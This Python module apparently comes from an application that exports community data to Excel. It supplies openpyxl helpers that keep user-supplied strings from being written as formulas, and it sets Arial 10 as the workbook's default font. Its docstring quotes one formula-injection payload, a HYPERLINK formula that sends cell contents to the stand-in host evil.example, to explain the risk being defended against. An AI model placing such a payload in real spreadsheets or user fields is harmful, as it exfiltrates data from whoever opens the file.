"""User text in every xlsx the product writes goes in as text, never as a formula.

openpyxl turns any string that starts with ``=`` into a formula cell; a warga named
``=HYPERLINK("http://evil.example/?q="&A1,"klik")`` would then be live in the secretary's Excel
(spreadsheet formula injection). Every writer calls these helpers for values that came from users.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_LEADS = ("=", "+", "-", "@")


def as_text(cell: Cell | WriteOnlyCell) -> Cell | WriteOnlyCell:
    """Keep a string cell a string (openpyxl marks strings that start with ``=`` as formulas)."""
    if isinstance(cell.value, str) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``ws.cell(row, column, value)`` that never writes a formula."""
    return as_text(ws.cell(row=row, column=column, value=value))


def text_cell(ws: Worksheet, value: Any) -> Any:
    """A value for ``ws.append`` on a write-only sheet: strings become text cells, others pass through."""
    if isinstance(value, str) and value.startswith("="):
        return as_text(WriteOnlyCell(ws, value=value))
    return value


def looks_like_formula(value: Any) -> bool:
    """For imports: a cell that holds a formula (or text written to be read as one) is refused."""
    return isinstance(value, str) and value.startswith("=")


DEFAULT_FONT_NAME = "Arial"  # Liberation Sans in LibreOffice: the same metrics (pkk.fontmetrics)
DEFAULT_FONT_PT = 10


def new_workbook(*, write_only: bool = False):
    """A workbook whose default font (the "Normal" style: every unstyled cell, and the unit of column
    widths) is Arial 10 instead of openpyxl's Calibri 11. Both have a 7 px widest digit in Excel; LibreOffice,
    which lacks Calibri on most installs, then measures columns with Arial's own metrics."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils.indexed_list import IndexedList

    wb = Workbook(write_only=write_only)
    default = Font(name=DEFAULT_FONT_NAME, size=DEFAULT_FONT_PT)
    wb._fonts = IndexedList([default])  # font 0 is the workbook default
    wb._named_styles["Normal"].font = default
    return wb
